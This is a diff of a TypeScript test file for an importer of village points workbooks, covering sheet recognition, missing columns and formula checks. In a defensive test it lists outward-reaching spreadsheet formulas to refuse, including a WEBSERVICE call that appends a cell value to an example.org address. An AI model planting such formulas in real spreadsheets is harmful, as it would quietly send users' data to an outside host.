@@ -219,11 +219,11 @@ describe("another village's workbook", () => {
 
   it('is known by its headers, whatever the names and order of sheets and columns', () => {
     const read = office(workbook, { ...nothingKnown, village: '东浜村' })
-    expect(read.sheets).toEqual([
-      { name: '说明', kind: 'other' },
-      { name: 'Sheet2', kind: 'ledger' },
-      { name: 'Sheet3', kind: 'households' },
-      { name: 'Sheet4', kind: 'rules' },
+    expect(read.sheets.map(({ name, kind, fate }) => [name, kind, fate])).toEqual([
+      ['说明', 'other', 'nothing-recognized'],
+      ['Sheet2', 'ledger', null],
+      ['Sheet3', 'households', null],
+      ['Sheet4', 'rules', null],
     ])
     expect(read.households.map(({ door, head, group }) => [door, head, group])).toEqual([
       ['甲12', '赵六', '东浜组'],
@@ -264,7 +264,7 @@ describe('a workbook that says things twice', () => {
       [1, '2号', '李四', 90],
       [2, '1号', '张三', 80],
     )
-    const formulas = [{ cell: 'C2', text: 'VLOOKUP(B2,户册!B:C,2)' }]
+    const formulas = [{ cell: 'C2', text: 'VLOOKUP(B2,户册!B:C,2)', saved: false }]
     const read = office([{ ...ranking, formulas }, households])
     expect(read.sheets.map(({ kind }) => kind)).toEqual(['other', 'households'])
     expect(read.households.map(({ door }) => door)).toEqual(['1', '2', '3'])
@@ -344,16 +344,29 @@ describe('a workbook with sheets missing', () => {
 })
 
 describe('a sheet that lacks a column', () => {
-  it.each<[string, Cell[]]>([
-    ['日期', ['门牌号', '户主', '事项', '加分']],
-    ['门牌号', ['日期', '户主', '事项', '加分']],
-    ['事项', ['日期', '门牌号', '加分', '扣分']],
-    ['加分', ['日期', '门牌号', '事项']],
-  ])('%s is refused, naming sheet, row and column', (column, header) => {
-    expect(refusal([households, rules, sheet('台账', ['台账标题'], header)])).toEqual({
-      code: 'missing-column',
-      params: { sheet: '台账', row: 2, column },
-    })
+  it.each<[string, Cell[], string[]]>([
+    ['日期', ['门牌号', '户主', '事项', '加分', '活动时间段'], ['E', 'leave']],
+    ['门牌号', ['日期', '户主', '事项', '加分', '哪家'], ['E', 'by-head', 'leave']],
+    ['事项', ['日期', '门牌号', '加分', '扣分', '做了什么'], ['E', 'leave']],
+    ['加分', ['日期', '门牌号', '事项', '户主', '几分'], ['E', 'leave']],
+  ])('%s, in a ledger, is asked about by sheet and row', (column, header, choices) => {
+    const ledger = sheet('台账', ['台账标题'], header, [1, 1, 1, 1, 1])
+    const read = office([households, rules, ledger])
+    expect(read.sheets.at(-1)).toMatchObject({ kind: 'other', fate: 'missing-column' })
+    expect(read.questions).toMatchObject([
+      { code: 'missing-column', sheet: '台账', row: 2, params: { column, nearest: header[4] }, preset: null },
+    ])
+    expect(read.questions[0]?.choices.map(({ value }) => value)).toEqual(choices)
+  })
+
+  it('is read by the column that somebody chose, or left out', () => {
+    const ledger = sheet('7月', ['活动时间段', '门牌号', '事项', '加分'], ['2026.7.5', 1, '参加村民会议', 20])
+    const workbook = [households, rules, ledger]
+    const { id = '' } = office(workbook).questions[0] ?? {}
+    const read = office(workbook, { ...nothingKnown, answers: { [id]: 'A' } })
+    expect(read.lines).toMatchObject([{ row: 2, points: 20, occurredOn: '2026-07-05' }])
+    const left = office(workbook, { ...nothingKnown, answers: { [id]: 'leave' } })
+    expect([left.lines, left.sheets.at(-1)?.fate]).toEqual([[], 'left-out'])
   })
 
   it.each<[string, string, Sheet]>([
@@ -367,9 +380,14 @@ describe('a sheet that lacks a column', () => {
     })
   })
 
-  it('is passed over when another sheet of its kind is whole', () => {
+  it('is asked about though another sheet of its kind is whole', () => {
     const summary = sheet('红榜', ['户主', '组别', '事项', '加分'], ['张三', '1组', '参加村民会议', 20])
-    expect(office([...withLines(line), summary]).lines).toHaveLength(1)
+    const read = office([...withLines(line), summary])
+    expect(read.lines).toHaveLength(1)
+    expect(read.questions.map(({ sheet, params }) => [sheet, params.column])).toEqual([
+      ['红榜', '日期'],
+      ['红榜', '门牌号'],
+    ])
   })
 })
 
@@ -377,7 +395,7 @@ describe('a formula', () => {
   const ledger = sheet('台账', ledgerHeader, line, [null, '合计', null, null, 20])
 
   it.each(['B2', 'D2', 'E2', 'A2'])('in %s, where the ledger is read, is refused', (cell) => {
-    const formulas = [{ cell, text: 'A1+1' }]
+    const formulas = [{ cell, text: 'A1+1', saved: false }]
     expect(refusal([households, rules, { ...ledger, formulas }])).toEqual({
       code: 'formula',
       params: { sheet: '台账', cell },
@@ -386,9 +404,9 @@ describe('a formula', () => {
 
   it('is harmless in a line of sums, above the header and in columns that are not read', () => {
     const formulas = [
-      { cell: 'E3', text: 'SUM(E2:E2)' },
-      { cell: 'A1', text: 'TODAY()' },
-      { cell: 'Z2', text: 'ROW()-1' },
+      { cell: 'E3', text: 'SUM(E2:E2)', saved: false },
+      { cell: 'A1', text: 'TODAY()', saved: false },
+      { cell: 'Z2', text: 'ROW()-1', saved: false },
     ]
     expect(office([households, rules, { ...ledger, formulas }]).lines).toHaveLength(1)
   })
@@ -400,7 +418,7 @@ describe('a formula', () => {
     'WEBSERVICE("http://example.org/"&A1)',
     'HYPERLINK("http://example.org/","看")',
   ])('that reaches outside is refused wherever it stands: %s', (text) => {
-    const notes = { ...sheet('杂记', ['x']), formulas: [{ cell: 'A1', text }] }
+    const notes = { ...sheet('杂记', ['x']), formulas: [{ cell: 'A1', text, saved: false }] }
     expect(refusal([households, notes])).toEqual({
       code: 'outward-formula',
       params: { sheet: '杂记', cell: 'A1' },
@@ -410,7 +428,7 @@ describe('a formula', () => {
   it.each(['HYPERLINK("#户册!A1","返回")', 'TEXTJOIN("|",TRUE,A1:B1)', 'SUM(表1[积分])'])(
     'that stays inside may stand beside: %s',
     (text) => {
-      const notes = { ...sheet('杂记', ['x']), formulas: [{ cell: 'A1', text }] }
+      const notes = { ...sheet('杂记', ['x']), formulas: [{ cell: 'A1', text, saved: false }] }
       expect(office([households, notes]).households).toHaveLength(3)
     },
   )
